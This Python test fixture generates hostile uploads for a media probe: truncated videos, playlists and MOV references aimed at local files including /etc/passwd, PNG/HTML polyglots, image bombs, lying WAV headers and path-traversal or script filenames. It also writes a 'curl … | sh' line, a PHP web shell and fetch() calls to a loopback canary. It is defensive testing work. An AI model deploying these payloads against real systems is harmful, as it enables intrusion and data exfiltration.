"""Hostile media for the upload path: files built to trick, overload or leak through the probe.

Each `HostileCase` is one upload: a family of attack (a truncated MP4, an HLS playlist renamed
`.mp4`, a MOV whose data lives in another file, a PNG/HTML polyglot, a 60000×60000 picture, a WAV
header claiming ten hours, zero bytes ...), a variant number that changes its parameters, the
kind it is uploaded as, and the name it is uploaded under (ordinary, or a hostile one: very long,
right-to-left overrides, NUL, path traversal, markup, control characters).

Every reference a file makes to the network points at `canary_url`, a loopback listener that the
caller runs and counts: if FFmpeg ever followed one, the canary sees the connection. References
to files point at genuine, readable media under the workshop folder, so a probe that followed
them would succeed and the upload would wrongly end `ready`.

`plan(count)` is cheap (no files): tests parametrize over it. `Workshop.write(case, folder)`
writes the case's file; the genuine media it needs are made once per workshop.
"""

from __future__ import annotations

import random
import shutil
import socket
import struct
import threading
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cached_property
from pathlib import Path
from typing import Literal

from tests.support.mediagen import (
    make_audio,
    make_video,
    truncated_copy,
    write_ffconcat,
    write_hls_playlist,
    write_lying_wav,
    write_png_bomb,
)

Kind = Literal["video", "audio"]
TEN_HOURS_S = 10 * 3600

# Hostile names: each is a stem; the case's extension is appended.
ODD_STEMS = (
    "\u202egnp.",  # right-to-left override: shows as "mp4.png"
    "A" * 5000,
    "é" * 3000,
    "../../../../etc/passwd",
    "..\\..\\windows\\system32\\drivers\\etc\\hosts",
    "CON",
    "nul\x00byte",
    "tab\tand\x7fdel\x1b[31mred",
    "<script>alert(document.cookie)</script>",
    "\"quoted\" 'single' `back`",
    "🎬🎤🔥" * 200,
    "Z\u0351\u0352\u0353\u0354a\u0355\u0356l\u0357g\u0358o" * 50,
    "%2e%2e%2f%2e%2e%2fsecret",
    "\ufeff\u200b\u200d zero width",
    "line\nbreak",
    " ",
    "",
    "résumé.final.FINAL.v2.mp4.exe",
)


@dataclass(frozen=True)
class HostileCase:
    family: str
    variant: int
    kind: Kind
    upload_name: str

    @property
    def id(self) -> str:
        return f"{self.family}-{self.variant}"


@dataclass(frozen=True)
class Family:
    kind: Kind
    extension: str
    write: Callable[[Workshop, int, Path], None]


class Workshop:
    """Genuine media made once, and the writers that turn them into hostile files."""

    def __init__(self, folder: Path, canary_url: str) -> None:
        self.folder = folder
        self.canary_url = canary_url.rstrip("/")
        folder.mkdir(parents=True, exist_ok=True)

    def write(self, case: HostileCase, folder: Path) -> Path:
        """Write `case`'s file under `folder` (named by its id) and return its path."""
        path = folder / f"{case.id}{FAMILIES[case.family].extension}"
        FAMILIES[case.family].write(self, case.variant, path)
        return path

    # --- genuine media, made on first use ---------------------------------------------------

    @cached_property
    def mp4(self) -> Path:
        """4 s, index (moov) at the end, as cameras and most exporters write it."""
        return make_video(self.folder / "good.mp4", width=320, height=240, duration_s=4)

    @cached_property
    def faststart_mp4(self) -> Path:
        return make_video(
            self.folder / "fast.mp4", width=320, height=240, duration_s=4, faststart=True
        )

    @cached_property
    def mov(self) -> Path:
        return make_video(self.folder / "good.mov", width=320, height=240, duration_s=2)

    @cached_property
    def mkv(self) -> Path:
        return make_video(self.folder / "good.mkv", width=320, height=240, duration_s=4)

    @cached_property
    def silent_mp4(self) -> Path:
        return make_video(self.folder / "silent.mp4", duration_s=2, tone_hz=None)

    @cached_property
    def m4a(self) -> Path:
        return make_audio(self.folder / "good.m4a", duration_s=4)

    @cached_property
    def mp3(self) -> Path:
        return make_audio(self.folder / "good.mp3", duration_s=2)

    @cached_property
    def png_bomb(self) -> Path:
        return write_png_bomb(self.folder / "bomb.png", side=60_000)

    def canary(self, variant: int, suffix: str) -> str:
        return f"{self.canary_url}/{variant}{suffix}"


# --- writers, one per family ----------------------------------------------------------------


def _truncated(source: Callable[[Workshop], Path], low: float, high: float):
    """Keep a fraction of the file between `low` and `high`, spread over the variants."""

    def write(shop: Workshop, variant: int, path: Path) -> None:
        fraction = low + (high - low) * ((variant * 0.618034) % 1.0)
        truncated_copy(source(shop), path, keep_fraction=fraction)

    return write


def _hls(shop: Workshop, variant: int, path: Path) -> None:
    # A segment is read as a stream, so the genuine file has its index first.
    targets = (
        lambda: str(shop.faststart_mp4.resolve()),
        lambda: f"file://{shop.faststart_mp4.resolve()}",
        lambda: shop.canary(variant, "/segment.ts"),
        lambda: shop.canary(variant, "/playlist.m3u8").replace("127.0.0.1", "localhost"),
    )
    target = targets[variant % len(targets)]()
    if variant % len(targets) == 0:
        write_hls_playlist(path, Path(target))
        return
    path.write_text(
        "#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:10\n#EXT-X-MEDIA-SEQUENCE:0\n"
        f"#EXTINF:4.0,\n{target}\n#EXT-X-ENDLIST\n"
    )


def _ffconcat(shop: Workshop, variant: int, path: Path) -> None:
    good = shop.mp4.resolve()
    entries = (
        None,  # the plain form: the genuine file by absolute path
        shop.canary(variant, "/part.mp4"),
        f"concat:{good}|{good}",
        f"subfile,,start,0,end,0,,:{good}",
        f"file:{good}",
    )
    entry = entries[variant % len(entries)]
    if entry is None:
        write_ffconcat(path, good)
        return
    path.write_text(f"ffconcat version 1.0\nfile '{entry}'\nduration 4\n")


def _mov_dref(shop: Workshop, variant: int, path: Path) -> None:
    """The genuine MOV with its data reference pointing at another file, its own data blanked.

    Only an alias ('alis') entry names a path that FFmpeg would open. With the sample data
    zeroed, the only way to read pictures is to follow the reference.
    """
    targets = (str(shop.mov.resolve()), str(shop.mp4.resolve()), "/etc/passwd")
    target = targets[variant % len(targets)]
    blank_own_data = variant % 2 == 0 or target == "/etc/passwd"
    path.write_bytes(with_external_dref(shop.mov.read_bytes(), target, blank_own_data))


def with_external_dref(mov: bytes, target: str, blank_own_data: bool) -> bytes:
    """Rewrite every track's `dref` to one alias entry naming `target` (moov must follow mdat)."""
    data = bytearray(mov)
    if blank_own_data:
        start, size = _find_box(data, b"mdat")
        data[start + 8 : start + size] = bytes(size - 8)
    moov_at, moov_size = _find_box(data, b"moov")
    moov = _rewrite_drefs(bytes(data[moov_at : moov_at + moov_size]), _alias_dref(target))
    return bytes(data[:moov_at]) + moov + bytes(data[moov_at + moov_size :])


_CONTAINER_BOXES = (b"moov", b"trak", b"mdia", b"minf", b"dinf")


def _rewrite_drefs(box: bytes, new_dref: bytes) -> bytes:
    """`box` with each dref inside replaced, the sizes of its ancestors fixed on the way up."""
    kind = box[4:8]
    if kind == b"dref":
        return new_dref
    if kind not in _CONTAINER_BOXES:
        return box
    children = b"".join(_rewrite_drefs(child, new_dref) for child in _children(box[8:]))
    return struct.pack(">I", 8 + len(children)) + kind + children


def _children(payload: bytes) -> list[bytes]:
    boxes, at = [], 0
    while at + 8 <= len(payload):
        size = struct.unpack(">I", payload[at : at + 4])[0]
        boxes.append(payload[at : at + size])
        at += size
    return boxes


def _find_box(data: bytearray, kind: bytes) -> tuple[int, int]:
    at = 0
    while at + 8 <= len(data):
        size = struct.unpack(">I", data[at : at + 4])[0]
        if data[at + 4 : at + 8] == kind:
            return at, size
        at += size
    raise ValueError(f"no top-level {kind!r} box")


def _alias_dref(target: str) -> bytes:
    """A dref with one Mac alias record, as FFmpeg's mov demuxer parses it (mov_read_dref)."""
    name = Path(target).name.encode()[:63]
    record = bytes(10)  # creator, type and size fields FFmpeg skips
    record += bytes([len(b"Macintosh HD")]) + b"Macintosh HD".ljust(27, b"\0")
    record += bytes(12) + bytes([len(name)]) + name.ljust(63, b"\0")
    record += bytes(16) + struct.pack(">hh", -1, -1) + bytes(16)
    path = target.encode()
    padded = path + (b"\0" if len(path) % 2 else b"")
    record += struct.pack(">hH", 2, len(path)) + padded  # type 2: absolute path
    record += struct.pack(">hH", -1, 0)
    entry = struct.pack(">I", 12 + len(record)) + b"alis" + struct.pack(">I", 0) + record
    body = struct.pack(">II", 0, 1) + entry  # version/flags, one entry
    return struct.pack(">I", 8 + len(body)) + b"dref" + body


def _png_html_polyglot(shop: Workshop, variant: int, path: Path) -> None:
    script = f"<html><body><script>fetch('{shop.canary(variant, '/steal')}')</script></body></html>"
    if variant % 3 == 0:  # a genuine PNG carrying a page in a text chunk
        png = _tiny_png(8, 8)
        text = _png_chunk(b"tEXt", b"Comment\0" + script.encode())
        path.write_bytes(png[:33] + text + png[33:])
    elif variant % 3 == 1:  # a page that holds a PNG in a comment
        path.write_bytes(b"<!--" + _tiny_png(4, 4) + b"-->" + script.encode())
    else:  # GIF header that is also a script
        path.write_bytes(b"GIF89a/*\x01\x00\x01\x00*/=1;" + script.encode())


def _huge_image(shop: Workshop, variant: int, path: Path) -> None:
    side = 60_000
    choice = variant % 4
    if choice == 0:
        shutil.copyfile(shop.png_bomb, path)  # complete and genuine: ~440 KB, 3.6 Gpx
    elif choice == 1:  # header only: what a streaming reader sees first
        path.write_bytes(_tiny_png(side, side)[:33])
    elif choice == 2:  # a JPEG whose frame header claims 60000×60000
        sof = b"\xff\xc0" + struct.pack(">HBHHB", 17, 8, side, side, 3)
        sof += b"\x01\x22\x00\x02\x11\x01\x03\x11\x01"
        path.write_bytes(b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
                         + sof + b"\xff\xd9")  # fmt: skip
    else:  # a BMP header claiming the same
        header = b"BM" + struct.pack("<IHHI", 54, 0, 0, 54)
        header += struct.pack("<IiiHHIIiiII", 40, side, side, 1, 24, 0, 0, 2835, 2835, 0, 0)
        path.write_bytes(header)


def _lying_wav(shop: Workshop, variant: int, path: Path) -> None:
    real = 0.5 + (variant % 4) * 0.5
    write_lying_wav(path, real_seconds=real, claimed_seconds=TEN_HOURS_S)


def _zero_bytes(shop: Workshop, variant: int, path: Path) -> None:
    path.write_bytes(b"")


def _text(shop: Workshop, variant: int, path: Path) -> None:
    texts = (
        "this is not a video at all\n" * 50,
        '{"video": true, "duration": 36000}',
        "#!/bin/sh\ncurl " + shop.canary(variant, "/x") + " | sh\n",
        "<?php system($_GET['c']); ?>",
        f'<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'{shop.canary(variant, "")}\')"/>',
        "<html><script>alert(1)</script></html>" * 20,
    )
    path.write_text(texts[variant % len(texts)])


def _random_bytes(shop: Workshop, variant: int, path: Path) -> None:
    rng = random.Random(variant)
    path.write_bytes(rng.randbytes(rng.choice((1, 17, 4096, 65_536, 300_000))))


MAGIC_HEADERS = (
    b"\x00\x00\x00\x18ftypisom\x00\x00\x02\x00isomiso2",
    b"\x00\x00\x00\x14ftypqt  \x00\x00\x00\x00qt  " + b"\x00\x00\x00\x08mdat",
    b"RIFF\xff\xff\xff\xffWAVEfmt \x10\x00\x00\x00\x01\x00\x01\x00",
    b"ID3\x04\x00\x00\x00\x00\x00\x00",
    b"\x1a\x45\xdf\xa3\x9f\x42\x86\x81\x01\x42\xf7\x81\x01",
    b"OggS\x00\x02" + bytes(20),
    b"fLaC\x00\x00\x00\x22",
    b"RIFF\x00\x10\x00\x00AVI LIST",
)


def _header_then_garbage(shop: Workshop, variant: int, path: Path) -> None:
    rng = random.Random(1000 + variant)
    header = MAGIC_HEADERS[variant % len(MAGIC_HEADERS)]
    path.write_bytes(header + rng.randbytes(rng.choice((64, 5000, 120_000))))


def _sound_as_video(shop: Workshop, variant: int, path: Path) -> None:
    shutil.copyfile(shop.m4a if variant % 2 else shop.mp3, path)


def _pictures_as_audio(shop: Workshop, variant: int, path: Path) -> None:
    shutil.copyfile(shop.silent_mp4, path)


FAMILIES: dict[str, Family] = {
    "truncated-mp4": Family("video", ".mp4", _truncated(lambda s: s.mp4, 0.05, 0.97)),
    "truncated-faststart-mp4": Family(
        "video", ".mp4", _truncated(lambda s: s.faststart_mp4, 0.15, 0.7)
    ),
    "truncated-mov": Family("video", ".mov", _truncated(lambda s: s.mov, 0.05, 0.95)),
    "truncated-mkv": Family("video", ".mkv", _truncated(lambda s: s.mkv, 0.1, 0.6)),
    "truncated-m4a": Family("audio", ".m4a", _truncated(lambda s: s.m4a, 0.05, 0.95)),
    "hls-as-mp4": Family("video", ".mp4", _hls),
    "hls-as-audio": Family("audio", ".mp3", _hls),
    "ffconcat-as-mp4": Family("video", ".mp4", _ffconcat),
    "mov-external-dref": Family("video", ".mov", _mov_dref),
    "png-html-polyglot": Family("video", ".mp4", _png_html_polyglot),
    "huge-image": Family("video", ".mp4", _huge_image),
    "lying-wav": Family("audio", ".wav", _lying_wav),
    "lying-wav-as-video": Family("video", ".mp4", _lying_wav),
    "zero-bytes": Family("video", ".mp4", _zero_bytes),
    "text-renamed": Family("video", ".mp4", _text),
    "random-bytes": Family("audio", ".mp3", _random_bytes),
    "header-then-garbage": Family("video", ".mp4", _header_then_garbage),
    "sound-as-video": Family("video", ".mp4", _sound_as_video),
    "pictures-as-audio": Family("audio", ".m4a", _pictures_as_audio),
}


def plan(count: int) -> list[HostileCase]:
    """`count` cases, round-robin over the families; every third one gets a hostile name."""
    names = list(FAMILIES)
    cases = []
    for index in range(count):
        family = names[index % len(names)]
        variant = index // len(names)
        extension = FAMILIES[family].extension
        odd = index % 3 == 2
        stem = ODD_STEMS[(index // 3) % len(ODD_STEMS)] if odd else f"take {variant + 1}"
        cases.append(HostileCase(family, variant, FAMILIES[family].kind, stem + extension))
    return cases


# --- small helpers --------------------------------------------------------------------------


def _tiny_png(width: int, height: int) -> bytes:
    """A genuine grey PNG; only its header is valid when the size is absurd (no pixels kept)."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    rows = b"".join(b"\x00" + b"\x80" * width for _ in range(height)) if width < 100 else b""
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", ihdr)
        + _png_chunk(b"IDAT", zlib.compress(rows))
        + _png_chunk(b"IEND", b"")
    )


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    crc = zlib.crc32(kind + data) & 0xFFFFFFFF
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)


# --- Watching for outbound connections ------------------------------------------------------


class Canary:
    """A loopback listener that every network reference in the hostile files points at.

    It accepts and counts connections (and keeps the first bytes of each), so a probe that
    followed a reference is seen, whichever process or library made the connection.
    """

    def __init__(self) -> None:
        self.hits: list[bytes] = []
        self._server = socket.create_server(("127.0.0.1", 0))
        self._server.settimeout(0.2)
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self._server.getsockname()[1]}"

    def start(self) -> Canary:
        self._thread.start()
        return self

    def stop(self) -> None:
        self._stop.set()
        self._thread.join(timeout=5)
        self._server.close()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                connection, _address = self._server.accept()
            except TimeoutError:
                continue
            with connection:
                connection.settimeout(0.5)
                try:
                    self.hits.append(connection.recv(200))
                except OSError:
                    self.hits.append(b"")


class ConnectTracer:
    """Runs commands under strace and reports every internet-family connect they made.

    This sees connections made by C code (FFmpeg) in child processes, which no Python-level
    guard can. `available` is False where strace is not installed.
    """

    SYSCALLS = "connect,sendto,sendmsg"

    def __init__(self, log_folder: Path) -> None:
        self.log_folder = log_folder
        self.binary = shutil.which("strace")
        self._count = 0
        log_folder.mkdir(parents=True, exist_ok=True)

    @property
    def available(self) -> bool:
        return self.binary is not None

    def wrap(self, command: list[str]) -> list[str]:
        if self.binary is None:
            return command
        self._count += 1
        log = self.log_folder / f"trace-{self._count}.log"
        tracing = ["-f", "-qq", "-e", f"trace={self.SYSCALLS}", "-e", "signal=none"]
        return [self.binary, *tracing, "-o", str(log), "--", *command]

    def traced_commands(self) -> int:
        return self._count

    def connections(self) -> list[str]:
        """Lines of the logs that name an IPv4 or IPv6 peer."""
        found = []
        for log in sorted(self.log_folder.glob("trace-*.log")):
            found += [line for line in log.read_text(errors="replace").splitlines()
                      if "AF_INET" in line]  # fmt: skip
        return found
